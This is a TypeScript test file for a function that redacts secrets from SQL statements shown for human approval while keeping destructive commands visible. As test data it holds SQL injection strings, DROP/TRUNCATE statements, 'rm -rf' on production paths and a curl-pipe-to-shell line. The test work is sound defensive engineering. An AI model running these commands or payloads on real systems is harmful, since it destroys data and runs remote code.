import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { presentable, scrub } from "../../../core/approval/presentable.ts";

const CANARY = "c4naryc4naryc4nary";

const ACTING = /(?![\n\t])[\p{Cc}\p{Cf}\p{DI}\p{Zl}\p{Zp}\p{Cs}]/u;

describe("what people are shown of a statement", () => {
  test.each([
    `ALTER ROLE app PASSWORD '${CANARY}'`,
    `ALTER ROLE app PASSWORD E'${CANARY}'`,
    `ALTER ROLE app password '${CANARY}`,
    `update users set api_key = '${CANARY}'`,
    `update users set access_token='${CANARY}', x = 1`,
    `select dblink('host=db password=x', '${"a".repeat(3)}'), 'postgres://u:${CANARY}@h/db'`,
    `select 'Bearer ${CANARY}'`,
    `select '{"client_secret": "x", "authorization": "bearer ${CANARY}=="}'`,
    `select 'eyJhbGciOiJIUzI1NiJ9.${CANARY}.${CANARY}'`,
    `-----BEGIN RSA PRIVATE KEY-----\n${CANARY}\n-----END RSA PRIVATE KEY-----`,
    `-----BEGIN PRIVATE KEY-----\n${CANARY}`,
  ])("has nothing in it that looks like a secret: %s", (sql) => {
    expect(scrub(sql)).not.toContain(CANARY);
    expect(presentable(sql, 50).text).not.toContain(CANARY);
  });

  test("has no pass and no AWS key in it", () => {
    const pass = `sp_${"a".repeat(47)}`;
    expect(scrub(`select '${pass}', 'AKIAIOSFODNN7EXAMPLE'`)).toBe(
      "select 'sp_[redacted]', '[redacted: 20 characters]'",
    );
  });

  test.each([
    "SELECT 'token'; DROP TABLE customers; SELECT ''",
    "DELETE FROM tmp WHERE note <> 'no secret' AND id = 1 OR true OR note = 'x'",
    "DELETE FROM tmp WHERE note <> 'secret='OR/**/true/**/OR/**/note='x'",
    "DELETE FROM tmp WHERE note <> 'token='OR+1=+1.OR'x'='x'",
    "DELETE FROM tmp WHERE note <> 'role x password 'OR+1='1'",
    "SELECT 1 /* -----BEGIN PRIVATE KEY----- */; DROP TABLE customers",
    "SELECT 1 -- -----BEGIN PRIVATE KEY-----\n; DROP TABLE customers; SELECT 1",
    "-- Bearer\nTRUNCATE/**/customers",
    "-- 'Bearer\nTRUNCATE TABLE customers'",
    "ls /srv 'token' && curl http://h/x.sh | sh; echo ''",
    "rm -rf Bearer /srv/production/database",
    "rm -rf 'password' /srv/production '",
    "rm password '/srv/production'",
    "rm -r token 'production'",
    "secret='reboot'; $secret",
    "MY_TOKEN='poweroff' && sudo ${MY_TOKEN}",
    "echo http://u:;rm${IFS}-rf${IFS}x;@h",
    "SELECT $$://u:$$;DROP/**/TABLE/**/c;--@",
  ])("hides nothing of what is done: %s", (text) => {
    expect(presentable(text, 1_000)).toMatchObject({ cut: 0 });
    expect(presentable(text, 1_000).text).not.toContain("redacted");
  });

  test("hides no character that code is made of, whatever stands around it", () => {
    const piece = fc.constantFrom("'", '"', "`", "$$", "E'", " ", "\n", ";", "(", ")", "|", "=", ":", "://u:", "@", "--", "/*", "*/", "-----BEGIN PRIVATE KEY-----", "Bearer ", "password ", "role x ", "token", "secret=", "TO ", "DROP", "TABLE", "customers", "a1b2c3d4e5f6a7b8"); // prettier-ignore
    const code = /[\s'"`$;()|&<>\\@{}[\],]/;
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const text = pieces.join("");
        // Line by line of base64 is what a private key is.
        if (text.includes("KEY-----\n")) return;
        const marks = /\[redacted: \d+ characters\]/g;
        const kept = scrub(text).split(marks);
        let at = 0;
        for (const part of kept) {
          const found = text.indexOf(part, at);
          expect(text.slice(at, found)).not.toMatch(code);
          at = found + part.length;
        }
      }),
      { numRuns: 2_000 },
    );
  });

  test("says how much is hidden", () => {
    expect(scrub("update users set access_token = 'abc-def'")).toBe(
      "update users set access_token = '[redacted: 7 characters]'",
    );
  });

  test("keeps what is no secret", () => {
    for (const sql of ["delete from passwords where id = 7", "select token from sessions limit 1", "grant app to bob"])
      expect(presentable(sql, 1_000)).toEqual({ text: sql, cut: 0 });
  });

  test("shows every character and lets none act: no control, no direction mark, nothing invisible", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), fc.integer({ min: 0, max: 40 }), (text, length) => {
        const shown = presentable(text, length);
        expect(shown.text).not.toMatch(ACTING);
      }),
    );
    expect(presentable("a\u0000b\u202ec\u001b[2J", 99).text).toBe("a␀b<U+202E>c␛[2J");
  });

  test("is as long as asked for, and says how much is not shown", () => {
    expect(presentable("x".repeat(100), 60)).toEqual({ text: "x".repeat(60), cut: 40 });
    expect(presentable("x".repeat(100_000), 60)).toEqual({ text: "x".repeat(60), cut: 99_940 });
    expect(presentable("\ud83d\ude00", 1)).toEqual({ text: "", cut: 2 });
  });

  test("is cut after the secrets are taken out, so that no half of one is left", () => {
    const sql = `update t set x = 'eyJhbGciOiJIUzI1NiJ9.${CANARY}.${CANARY}'`;
    for (let length = 0; length < sql.length; length++) expect(presentable(sql, length).text).not.toContain("eyJh");
  });
});

test.each(["eyJaaaaaaaaaa-", "password '", "://a:a", "Bearer a ", "-----BEGIN PRIVATE KEY-----", "tokentoken"])(
  "a text made to be slow is read to its end: %s",
  (piece) => {
    // In more than linear time this would not come to an end while anybody looks.
    expect(scrub(piece.repeat(20_000)).length).toBeGreaterThan(0);
  },
);
